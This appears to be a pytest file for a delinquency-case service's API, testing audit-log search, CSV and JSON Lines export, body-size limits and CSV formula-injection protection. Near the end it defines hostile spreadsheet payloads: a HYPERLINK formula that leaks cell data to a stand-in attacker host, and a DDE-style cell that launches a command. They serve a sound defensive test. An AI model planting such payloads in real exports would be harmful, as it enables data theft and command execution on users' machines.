"""Audit search, verify and export for the compliance role; body limits and the error shape."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx

from arrears.settings import Settings
from models.enums import Role
from tests.api.conftest import Auth
from tests.api.test_end_to_end import eventually
from tests.factories import delinquency


async def _case(client: httpx.AsyncClient, auth: Auth) -> str:
    row = delinquency(days_past_due=10, as_of=datetime.now(UTC).date().isoformat())
    response = await client.post("/v1/delinquencies", json={"records": [row]}, headers=auth(Role.SUPERVISOR))
    case_id: str = response.json()["case_ids"][0]
    contact = {"channel": "call", "outcome": "no_answer", "reason": "first attempt"}
    done = await client.post(
        f"/v1/cases/{case_id}/contacts", json=contact, headers=auth(Role.SUPERVISOR, "sue")
    )
    assert done.status_code == 200, done.text
    return case_id


async def test_search_by_case_actor_action_and_time(client: httpx.AsyncClient, auth: Auth) -> None:
    started = datetime.now(UTC) - timedelta(seconds=1)
    case_id = await _case(client, auth)
    officer = auth(Role.COMPLIANCE)
    by_case = (await client.get("/v1/audit/events", params={"case_id": case_id}, headers=officer)).json()
    assert by_case["total"] >= 2 and {e["case_id"] for e in by_case["items"]} == {case_id}
    assert by_case["items"][0]["action"] == "case.opened"

    opened = (
        await client.get(
            "/v1/audit/events", params={"case_id": case_id, "action": "case.opened"}, headers=officer
        )
    ).json()
    assert [e["action"] for e in opened["items"]] == ["case.opened"]
    by_actor = (
        await client.get("/v1/audit/events", params={"actor": "supervisor-user"}, headers=officer)
    ).json()
    assert by_actor["total"] >= 1 and {e["actor"] for e in by_actor["items"]} == {"supervisor-user"}
    window = {
        "case_id": case_id,
        "since": started.isoformat(),
        "until": (started + timedelta(hours=1)).isoformat(),
    }
    inside = (await client.get("/v1/audit/events", params=window, headers=officer)).json()
    assert inside["items"][0]["action"] == "case.opened" and inside["total"] >= 2
    before = {"case_id": case_id, "until": started.isoformat()}
    assert (await client.get("/v1/audit/events", params=before, headers=officer)).json()["total"] == 0
    paged = (
        await client.get(
            "/v1/audit/events", params={"case_id": case_id, "limit": 1, "offset": 1}, headers=officer
        )
    ).json()
    assert [e["arrival"] for e in paged["items"]] == [by_case["items"][1]["arrival"]]


async def test_export_streams_csv_and_json_lines_and_is_itself_audited(
    client: httpx.AsyncClient, auth: Auth
) -> None:
    case_id = await _case(client, auth)
    officer = auth(Role.COMPLIANCE, subject="officer-exports")
    total = (await client.get("/v1/audit/events", params={"case_id": case_id}, headers=officer)).json()[
        "total"
    ]

    jsonl = await client.get(
        "/v1/audit/export", params={"case_id": case_id, "format": "jsonl"}, headers=officer
    )
    assert jsonl.status_code == 200 and jsonl.headers["content-type"].startswith("application/x-ndjson")
    events = [json.loads(line) for line in jsonl.text.splitlines()]
    assert len(events) >= total and events[0]["action"] == "case.opened"
    assert [e["arrival"] for e in events] == sorted(e["arrival"] for e in events)

    csv_reply = await client.get(
        "/v1/audit/export", params={"case_id": case_id, "format": "csv"}, headers=officer
    )
    rows = list(csv.DictReader(io.StringIO(csv_reply.text)))
    assert rows[0]["action"] == "case.opened" and rows[0]["case_id"] == case_id
    assert (
        json.loads(rows[0]["payload"]) == events[0]["payload"]
        and (rows[0]["hash"] or None) == events[0]["hash"]
    )

    exports = (
        await client.get(
            "/v1/audit/events",
            params={"actor": "officer-exports", "action": "audit.exported"},
            headers=officer,
        )
    ).json()
    assert exports["total"] == 2
    verify = (await client.get("/v1/audit/verify", headers=officer)).json()
    assert verify["ok"] and verify["head_seq"] + verify["pending"] >= len(events)


async def test_a_streamed_body_over_the_limit_is_413(
    client: httpx.AsyncClient, auth: Auth, settings: Settings
) -> None:
    chunk = b" " * 65536

    async def stream() -> AsyncIterator[bytes]:
        for _ in range(settings.max_request_bytes // len(chunk) + 2):
            yield chunk

    response = await client.post(
        "/v1/delinquencies",
        content=stream(),
        headers={**auth(Role.ADMIN), "Content-Type": "application/json"},
    )
    assert response.status_code == 413
    assert response.json() == {
        "code": "payload_too_large",
        "message": f"request body over {settings.max_request_bytes} bytes",
    }


FORMULA = '=HYPERLINK("http://attacker.test/?leak="&A1,"click")'
HOSTILE_ACTOR = "@SUM(1+1)*cmd|' /C calc'!A0"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


async def test_the_csv_export_carries_no_formula(client: httpx.AsyncClient, auth: Auth) -> None:
    """A reason and an actor that a spreadsheet would run as formulas are exported as text (a
    leading quote); the JSON Lines export keeps them as they were written."""
    team = "formula-team"
    row = delinquency(days_past_due=10, as_of=datetime.now(UTC).date().isoformat(), team=team)
    opened = await client.post("/v1/delinquencies", json={"records": [row]}, headers=auth(Role.SUPERVISOR))
    case_id = opened.json()["case_ids"][0]
    hostile = auth(Role.SUPERVISOR, HOSTILE_ACTOR, team=team)

    async def live_contact() -> dict[str, Any] | None:
        page = (
            await client.get("/v1/tasks", params={"kind": "live_contact", "team": team}, headers=hostile)
        ).json()
        return next((t for t in page["items"] if t["case_id"] == case_id), None)

    task = await eventually(live_contact, "the live-contact task")
    assert (await client.post(f"/v1/tasks/{task['id']}/claim", headers=hostile)).status_code == 200
    done = await client.post(
        f"/v1/tasks/{task['id']}/complete", json={"decision": "contacted", "reason": FORMULA}, headers=hostile
    )
    assert done.status_code == 200, done.text
    officer = auth(Role.COMPLIANCE)

    async def exported() -> list[dict[str, str]] | None:
        reply = await client.get(
            "/v1/audit/export", params={"case_id": case_id, "format": "csv"}, headers=officer
        )
        rows = list(csv.DictReader(io.StringIO(reply.text)))
        return rows if any(r["action"] == "task.done" for r in rows) else None

    rows = await eventually(exported, "the decision in the trail")
    claimed = next(r for r in rows if r["action"] == "task.claimed")
    decided = next(r for r in rows if r["action"] == "task.done")
    assert claimed["actor"] == "'" + HOSTILE_ACTOR
    assert decided["reason"] == "'" + FORMULA and decided["actor"] == "'" + HOSTILE_ACTOR
    for exported_row in rows:
        for column, value in exported_row.items():
            assert not value.startswith(DANGEROUS) or value.lstrip("-").isdigit(), (column, value)

    jsonl = await client.get(
        "/v1/audit/export", params={"case_id": case_id, "format": "jsonl"}, headers=officer
    )
    events = [json.loads(line) for line in jsonl.text.splitlines()]
    assert any(e["reason"] == FORMULA and e["actor"] == HOSTILE_ACTOR for e in events)
